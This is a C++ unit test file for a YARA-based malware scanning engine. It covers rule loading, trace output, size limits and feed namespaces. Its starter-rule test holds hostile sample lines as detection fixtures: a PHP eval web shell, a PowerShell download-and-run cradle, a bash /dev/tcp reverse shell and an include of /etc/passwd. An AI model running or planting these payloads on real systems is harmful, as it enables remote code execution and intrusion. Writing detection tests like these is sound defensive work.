#include <gtest/gtest.h>
#include <sys/stat.h>
#include <yara.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "engine/YaraEngine.hpp"
#include "tests/support/RuleFixtures.hpp"
#include "tests/support/TempDir.hpp"

namespace norvid {
namespace {

namespace fs = std::filesystem;
using norvid::testing::RuleFixtures;
using norvid::testing::TempDir;
using Names = std::vector<std::string>;

constexpr std::uintmax_t kFiveMiB = 5 * 1024 * 1024;
constexpr std::uintmax_t kSixtyFourMiB = 64 * 1024 * 1024;

// Compiles `source` with libyara and saves the rule set as a .yarc file at `path`.
void saveCompiledRules(const std::string& source, const std::string& path) {
  ASSERT_EQ(yr_initialize(), ERROR_SUCCESS);
  YR_COMPILER* compiler = nullptr;
  ASSERT_EQ(yr_compiler_create(&compiler), ERROR_SUCCESS);
  ASSERT_EQ(yr_compiler_add_string(compiler, source.c_str(), nullptr), 0);
  YR_RULES* rules = nullptr;
  ASSERT_EQ(yr_compiler_get_rules(compiler, &rules), ERROR_SUCCESS);
  yr_compiler_destroy(compiler);
  ASSERT_EQ(yr_rules_save(rules, path.c_str()), ERROR_SUCCESS);
  yr_rules_destroy(rules);
  yr_finalize();
}

std::vector<std::string> readLines(const std::string& path) {
  std::ifstream in(path);
  std::vector<std::string> lines;
  for (std::string line; std::getline(in, line);) lines.push_back(line);
  return lines;
}

bool contains(const std::vector<std::string>& lines, const std::string& wanted) {
  return std::find(lines.begin(), lines.end(), wanted) != lines.end();
}

class YaraEngineTest : public ::testing::Test {
 protected:
  YaraEngineTest() : rules(temp.path() / "rules"), engine((temp.path() / "data").string()) {}

  bool load() {
    EXPECT_TRUE(engine.initialize());
    return engine.loadRulesFromDirectory(rules.str());
  }

  std::vector<std::string> trace() const { return readLines(engine.tracePath()); }

  std::string sample(const std::string& name, const std::string& content) const {
    return temp.write("samples/" + name, content);
  }

  TempDir temp;
  RuleFixtures rules;
  YaraEngine engine{temp.str()};
};

TEST_F(YaraEngineTest, LoadWritesTheStepByStepTrace) {
  std::string small =
      rules.writeOfSize("small.yar", RuleFixtures::ruleMatching("Small", "aaa1"), 2 * 1024 + 10);
  std::string huge =
      rules.writeOfSize("huge.yar", RuleFixtures::ruleMatching("Huge", "bbb2"), 6 * 1024 * 1024);
  std::string compiled = rules.str() + "/set.yarc";
  saveCompiledRules(RuleFixtures::ruleMatching("Saved", "ccc3"), compiled);
  const std::string compiledKb = std::to_string(fs::file_size(compiled) / 1024);

  ASSERT_TRUE(load());

  std::vector<std::string> lines = trace();
  ASSERT_EQ(lines.size(), 16u);
  EXPECT_EQ(lines[0], "[YARA] loadRulesFromDirectory: " + rules.str());
  EXPECT_EQ(lines[1], "[YARA] Directorio OK");
  Names found(lines.begin() + 2, lines.begin() + 5);
  std::sort(found.begin(), found.end());
  EXPECT_EQ(found, (Names{"[YARA] Encontrado .yar: huge.yar (6144 KB)",
                          "[YARA] Encontrado .yar: small.yar (2 KB)",
                          "[YARA] Encontrado .yarc: set.yarc (" + compiledKb + " KB)"}));
  EXPECT_EQ(lines[5], "[YARA] Compilando: " + small + " -> OK");
  EXPECT_EQ(lines[6], "[YARA] Compilando: " + huge + " -> SKIP (>5 MB, use .yarc)");
  EXPECT_EQ(lines[7], "[YARA] yr_compiler_get_rules... OK");
  EXPECT_EQ(lines[8], "[YARA] Source: 1 reglas de 1 archivos");
  EXPECT_EQ(lines[9], "[YARA] Cargando .yarc: " + compiled + " -> OK");
  EXPECT_EQ(lines[10], "[YARA] === Resumen ===");
  EXPECT_EQ(lines[11], "[YARA]   .yar compilados: 1 (0 errores)");
  EXPECT_EQ(lines[12], "[YARA]   .yarc cargados:  1");
  EXPECT_EQ(lines[13], "[YARA]   Total rule sets: 2");
  EXPECT_EQ(lines[14], "[YARA]   Total reglas:    2");
  EXPECT_EQ(lines[15], "[YARA] EXITO");
  EXPECT_EQ(engine.getTotalRules(), 2);
  EXPECT_TRUE(engine.hasRuleSets());
}

TEST_F(YaraEngineTest, OnlyPrecompiledSetsLoadWithoutTheCompilerStep) {
  saveCompiledRules(
      RuleFixtures::ruleMatching("One", "m1") + RuleFixtures::ruleMatching("Two", "m2"),
      rules.str() + "/a.yarc");
  saveCompiledRules(RuleFixtures::ruleMatching("Three", "m3"), rules.str() + "/b.yarc");

  ASSERT_TRUE(load());

  std::vector<std::string> lines = trace();
  EXPECT_TRUE(contains(lines, "[YARA]   .yar compilados: 0 (0 errores)"));
  EXPECT_TRUE(contains(lines, "[YARA]   .yarc cargados:  2"));
  EXPECT_TRUE(contains(lines, "[YARA]   Total rule sets: 2"));
  EXPECT_TRUE(contains(lines, "[YARA]   Total reglas:    3"));
  EXPECT_EQ(lines.back(), "[YARA] EXITO");
  for (const std::string& line : lines) {
    EXPECT_EQ(line.find("yr_compiler_get_rules"), std::string::npos);
  }
  // The two sets come in directory order, which the file system decides.
  Names matched = engine.scanFile(sample("x", "..m3..m1.."));
  std::sort(matched.begin(), matched.end());
  EXPECT_EQ(matched, (Names{"One", "Three"}));
}

TEST_F(YaraEngineTest, LoadFailuresEndTheTraceWithTheFatalLine) {
  struct Case {
    const char* name;
    bool initialize;
    std::string directory;
    std::string error;
  };
  const std::string file = temp.write("plain.txt", "not a directory");
  const std::string missing = temp.str() + "/nowhere";
  const std::vector<Case> cases = {
      {"empty directory", true, rules.str(), "No se cargó ningún conjunto de reglas"},
      {"file instead of directory", true, file, "Directorio no existe: " + file},
      {"missing directory", true, missing, "Directorio no existe: " + missing},
      {"not initialised", false, rules.str(), "YARA no inicializado"},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    YaraEngine fresh((temp.path() / "data").string());
    if (c.initialize) {
      ASSERT_TRUE(fresh.initialize());
    }
    EXPECT_FALSE(fresh.loadRulesFromDirectory(c.directory));
    EXPECT_EQ(fresh.lastError(), c.error);
    EXPECT_FALSE(fresh.hasRuleSets());
    std::vector<std::string> lines = readLines(fresh.tracePath());
    ASSERT_FALSE(lines.empty());
    EXPECT_EQ(lines.front(), "[YARA] loadRulesFromDirectory: " + c.directory);
    EXPECT_EQ(lines.back(), "[YARA] FATAL: " + c.error);
  }
  // With no rule files at all the summary is still written before the fatal line.
  YaraEngine empty((temp.path() / "data").string());
  ASSERT_TRUE(empty.initialize());
  ASSERT_FALSE(empty.loadRulesFromDirectory(rules.str()));
  EXPECT_TRUE(contains(readLines(empty.tracePath()), "[YARA]   Total rule sets: 0"));
}

TEST_F(YaraEngineTest, ExtensionsAreMatchedCaseSensitively) {
  rules.write("RULES.YAR", RuleFixtures::ruleMatching("Upper", "u1"));
  rules.write("x.Yara", RuleFixtures::ruleMatching("Mixed", "u2"));
  rules.write("set.YARC", "not looked at");
  rules.write("notes.txt", RuleFixtures::ruleMatching("Text", "u3"));
  rules.write("x.yara", RuleFixtures::ruleMatching("Lower", "u4"));
  rules.write("y.yar", RuleFixtures::ruleMatching("Short", "u5"));
  fs::create_directories(rules.directory() / "sub.yar");

  ASSERT_TRUE(load());

  EXPECT_EQ(engine.getTotalRules(), 2);
  Names matched = engine.scanFile(sample("s", "u1 u2 u3 u4 u5"));
  std::sort(matched.begin(), matched.end());
  EXPECT_EQ(matched, (Names{"Lower", "Short"}));
  EXPECT_TRUE(contains(trace(), "[YARA]   .yar compilados: 2 (0 errores)"));
}

TEST_F(YaraEngineTest, SourceSizeLimitIsFiveMebibytesInclusive) {
  std::string exact =
      rules.writeOfSize("exact.yar", RuleFixtures::ruleMatching("Exact", "e1"), kFiveMiB);
  std::string over =
      rules.writeOfSize("over.yar", RuleFixtures::ruleMatching("Over", "e2"), kFiveMiB + 1);

  ASSERT_TRUE(load());

  std::vector<std::string> lines = trace();
  EXPECT_TRUE(contains(lines, "[YARA] Compilando: " + exact + " -> OK"));
  EXPECT_TRUE(contains(lines, "[YARA] Compilando: " + over + " -> SKIP (>5 MB, use .yarc)"));
  EXPECT_EQ(engine.scanFile(sample("s", "e1 e2")), Names{"Exact"});
}

TEST_F(YaraEngineTest, SourcesCompileSmallestFirst) {
  std::string big =
      rules.writeOfSize("a_big.yar", RuleFixtures::ruleMatching("Big", "b1"), 10 * 1024);
  std::string small =
      rules.writeOfSize("z_small.yar", RuleFixtures::ruleMatching("Small", "b2"), 2 * 1024);

  ASSERT_TRUE(load());

  std::vector<std::string> lines = trace();
  auto at = [&](const std::string& line) { return std::find(lines.begin(), lines.end(), line); };
  auto smallLine = at("[YARA] Compilando: " + small + " -> OK");
  auto bigLine = at("[YARA] Compilando: " + big + " -> OK");
  ASSERT_NE(smallLine, lines.end());
  ASSERT_NE(bigLine, lines.end());
  EXPECT_LT(smallLine, bigLine);
  // One set, so rules are reported in compile order.
  EXPECT_EQ(engine.scanFile(sample("s", "b1 b2")), (Names{"Small", "Big"}));
}

// A source that fails must not poison the compiler for the sources around it.
TEST_F(YaraEngineTest, FailingSourcesAreReportedAndTheOthersStillCompile) {
  struct Source {
    std::string name;
    std::string text;
  };
  struct Case {
    const char* label;
    std::vector<Source> sources;  // compiled in this order (sizes grow along the list)
    Names matched;
    int compiled;
    int errors;
  };
  const std::string broken = RuleFixtures::brokenRule();
  const std::vector<Case> cases = {
      {"broken first",
       {{"a.yar", broken}, {"b.yar", RuleFixtures::ruleMatching("B", "k2")}},
       {"B"},
       1,
       1},
      {"broken between",
       {{"a.yar", RuleFixtures::ruleMatching("A", "k1")},
        {"b.yar", broken},
        {"c.yar", RuleFixtures::ruleMatching("C", "k3")}},
       {"A", "C"},
       2,
       1},
      {"broken last",
       {{"a.yar", RuleFixtures::ruleMatching("A", "k1")}, {"b.yar", broken}},
       {"A"},
       1,
       1},
      {"two broken",
       {{"a.yar", broken},
        {"b.yar", RuleFixtures::ruleMatching("B", "k2")},
        {"c.yar", broken},
        {"d.yar", RuleFixtures::ruleMatching("D", "k4")}},
       {"B", "D"},
       2,
       2},
      {"duplicate rule name",
       {{"a.yar", RuleFixtures::ruleMatching("A", "k1")},
        {"b.yar", RuleFixtures::ruleMatching("A", "k2")},
        {"c.yar", RuleFixtures::ruleMatching("C", "k3")}},
       {"A", "C"},
       2,
       1},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.label);
    TempDir dir;
    RuleFixtures set(dir.path() / "rules");
    std::vector<std::string> paths;
    for (std::size_t i = 0; i < c.sources.size(); ++i) {
      paths.push_back(set.writeOfSize(c.sources[i].name, c.sources[i].text, 1024 * (i + 1)));
    }
    YaraEngine fresh(dir.str());
    ASSERT_TRUE(fresh.initialize());
    ASSERT_TRUE(fresh.loadRulesFromDirectory(set.str()));

    EXPECT_EQ(fresh.scanFile(dir.write("sample", "k1 k2 k3 k4")), c.matched);
    std::vector<std::string> lines = readLines(fresh.tracePath());
    const std::string summary = "[YARA]   .yar compilados: " + std::to_string(c.compiled) + " (" +
                                std::to_string(c.errors) + " errores)";
    EXPECT_TRUE(contains(lines, summary));
    EXPECT_TRUE(contains(lines, "[YARA] Source: " + std::to_string(c.matched.size()) +
                                    " reglas de " + std::to_string(c.compiled) + " archivos"));
    EXPECT_EQ(lines.back(), "[YARA] EXITO");
    // Each failing source: its compile line carries the diagnostic, then its error count.
    for (std::size_t i = 0; i < c.sources.size(); ++i) {
      auto start = std::find_if(lines.begin(), lines.end(), [&](const std::string& line) {
        return line.rfind("[YARA] Compilando: " + paths[i], 0) == 0;
      });
      ASSERT_NE(start, lines.end());
      if (*start == "[YARA] Compilando: " + paths[i] + " -> OK") continue;
      EXPECT_EQ(start->rfind("[YARA] Compilando: " + paths[i] + "  [ERROR] " + paths[i] + ":", 0),
                0u)
          << *start;
      ASSERT_NE(start + 1, lines.end());
      EXPECT_EQ(*(start + 1), " -> 1 errores");
    }
  }
}

TEST_F(YaraEngineTest, UnreadablePrecompiledSetIsSkipped) {
  rules.write("a.yar", RuleFixtures::ruleMatching("A", "p1"));
  std::string junk = rules.write("junk.yarc", "this is not a saved rule set");

  ASSERT_TRUE(load());

  std::vector<std::string> lines = trace();
  auto failed = std::find_if(lines.begin(), lines.end(), [&](const std::string& line) {
    return line.rfind("[YARA] Cargando .yarc: " + junk + " -> FAILED: yr_rules_load failed (code ",
                      0) == 0;
  });
  ASSERT_NE(failed, lines.end());
  EXPECT_EQ(failed->substr(failed->size() - junk.size() - 3), "): " + junk);
  EXPECT_TRUE(contains(lines, "[YARA]   .yarc cargados:  0"));
  EXPECT_EQ(engine.getTotalRules(), 1);

  EXPECT_FALSE(engine.loadCompiledRules(temp.str() + "/missing.yarc"));
  EXPECT_EQ(engine.lastError(), "yr_rules_load failed (code " +
                                    std::to_string(ERROR_COULD_NOT_OPEN_FILE) + "): " + temp.str() +
                                    "/missing.yarc");
}

TEST_F(YaraEngineTest, RuleCountIncludesPrivateAndGlobalRules) {
  rules.write("a.yar",
              "private rule Hidden { strings: $a = \"q1\" condition: $a }\n"
              "global rule Always { condition: true }\n"
              "rule Visible { condition: Hidden }\n");
  ASSERT_TRUE(load());
  EXPECT_EQ(engine.getTotalRules(), 3);
  EXPECT_EQ(engine.scanFile(sample("s", "q1")), (Names{"Always", "Visible"}));
}

TEST_F(YaraEngineTest, MatchesAreListedInEngineOrderWithoutDeduplication) {
  rules.write("set.yar", RuleFixtures::ruleMatching("A", "marker-a") +
                             RuleFixtures::ruleMatching("B", "marker-b"));
  saveCompiledRules(RuleFixtures::ruleMatching("A", "marker-a"), rules.str() + "/again.yarc");
  ASSERT_TRUE(load());

  EXPECT_EQ(engine.scanFile(sample("both", "marker-b marker-a")), (Names{"A", "B", "A"}));
  EXPECT_EQ(engine.scanFile(sample("only-b", "marker-b")), Names{"B"});
  EXPECT_EQ(engine.scanFile(sample("none", "nothing here")), Names{});
}

TEST_F(YaraEngineTest, FilesOutsideTheReadableRangeAreNotMatched) {
  rules.write("a.yar", RuleFixtures::ruleMatching("Head", "HEADMARK"));
  ASSERT_TRUE(load());

  struct Case {
    const char* name;
    std::uintmax_t size;  // 0: empty file
    Names expected;
  };
  const std::vector<Case> cases = {
      {"empty", 0, {}},
      {"exactly 64 MiB", kSixtyFourMiB, {"Head"}},
      {"64 MiB and one byte", kSixtyFourMiB + 1, {}},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    std::string path = sample("big", c.size == 0 ? "" : "HEADMARK");
    fs::resize_file(path, c.size);
    EXPECT_EQ(engine.scanFile(path), c.expected);
    fs::remove(path);
  }
  EXPECT_EQ(engine.scanFile(temp.str() + "/missing"), Names{});
  EXPECT_EQ(engine.scanFile(temp.str()), Names{});
  // A FIFO is refused at once instead of waiting for a writer.
  std::string fifo = temp.str() + "/pipe";
  ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
  EXPECT_EQ(engine.scanFile(fifo), Names{});
}

TEST_F(YaraEngineTest, LifecycleGuardsScanning) {
  rules.write("a.yar", RuleFixtures::ruleMatching("A", "life"));
  std::string file = sample("s", "life");

  EXPECT_EQ(engine.scanFile(file), Names{});  // not initialised
  EXPECT_TRUE(engine.initialize());
  EXPECT_TRUE(engine.initialize());
  EXPECT_EQ(engine.scanFile(file), Names{});  // nothing loaded
  ASSERT_TRUE(engine.loadRulesFromDirectory(rules.str()));
  EXPECT_EQ(engine.scanFile(file), Names{"A"});

  engine.unload();
  EXPECT_FALSE(engine.isInitialized());
  EXPECT_FALSE(engine.hasRuleSets());
  EXPECT_EQ(engine.getTotalRules(), 0);
  EXPECT_EQ(engine.scanFile(file), Names{});
  engine.unload();

  // The library stays usable for engines that come after (initialise and finalise pair up).
  YaraEngine next((temp.path() / "data").string());
  ASSERT_TRUE(next.initialize());
  ASSERT_TRUE(next.loadRulesFromDirectory(rules.str()));
  EXPECT_EQ(next.scanFile(file), Names{"A"});
}

TEST(StarterRulesTest, StarterSetCompilesAndCatchesTheEicarTestFile) {
  TempDir temp;
  const fs::path starter = fs::path(NORVID_TEST_SOURCE_DIR).parent_path() / "rules";
  YaraEngine engine(temp.str());
  ASSERT_TRUE(engine.initialize());
  ASSERT_TRUE(engine.loadRulesFromDirectory(starter.string()));
  for (const std::string& line : readLines(engine.tracePath())) {
    EXPECT_EQ(line.find("[WARN]"), std::string::npos) << line;
  }
  const std::string eicar = "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
  struct Case {
    const char* name;
    std::string content;
    Names expected;
  };
  const std::vector<Case> cases = {
      {"eicar", eicar + "\r\n", {"EICAR_Test_File"}},
      {"eicar quoted in a document", "The test string is " + eicar + "\n", {}},
      {"php shell", "<?php eval($_POST['cmd']); ?>", {"Webshell_PHP_Request_Eval"}},
      {"php page", "<?php echo htmlspecialchars($_POST['name']); ?>", {}},
      {"powershell cradle",
       "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')",
       {"Script_PowerShell_Download_Cradle"}},
      {"reverse shell", "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", {"Script_Unix_Reverse_Shell"}},
      {"plain text", "Nothing to see here.\n", {}},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    EXPECT_EQ(engine.scanFile(temp.write(std::string("sample-") + c.name, c.content)), c.expected);
  }
}

TEST_F(YaraEngineTest, FeedFoldersLoadAfterTheRulesEachInItsNamespace) {
  rules.write("main.yar", RuleFixtures::ruleMatching("Shared", "main1"));
  RuleFixtures first(temp.path() / "data/feeds/first/current");
  first.write("a.yar", RuleFixtures::ruleMatching("Shared", "feed1"));
  first.write("broken.yar", RuleFixtures::brokenRule());
  first.write("externals.yar",
              "rule Named { condition: filename == \"x\" and filetype == \"\" and owner == \"\" "
              "and extension == \"\" and filepath == \"\" }\n");
  first.write("include.yar", "include \"/etc/passwd\"\n");
  RuleFixtures second(temp.path() / "data/feeds/second/current");
  second.write("b.yar", RuleFixtures::ruleMatching("Shared", "feed2"));
  RuleFixtures empty(temp.path() / "data/feeds/empty/current");
  empty.write("broken.yar", RuleFixtures::brokenRule());
  fs::create_directories(temp.path() / "data/feeds/notinstalled");

  const auto folders = feedRuleFolders((temp.path() / "data").string());
  ASSERT_EQ(folders.size(), 3u);
  EXPECT_EQ(folders[0].nameSpace, "empty");
  EXPECT_EQ(folders[1].nameSpace, "first");
  engine.setAdditionalFolders(folders);
  ASSERT_TRUE(load());

  // The same rule name from the rules folder and two feeds: all three load and match.
  EXPECT_EQ(engine.getTotalRules(), 4);
  Names matched = engine.scanFile(sample("s", "main1 feed1 feed2"));
  EXPECT_EQ(matched, (Names{"Shared", "Shared", "Shared"}));
  const auto lines = trace();
  EXPECT_TRUE(contains(lines, "[YARA] Feed first: 2 reglas de 2 archivos"));
  EXPECT_TRUE(contains(lines, "[YARA] Feed empty: sin reglas"));
}

}  // namespace
}  // namespace norvid
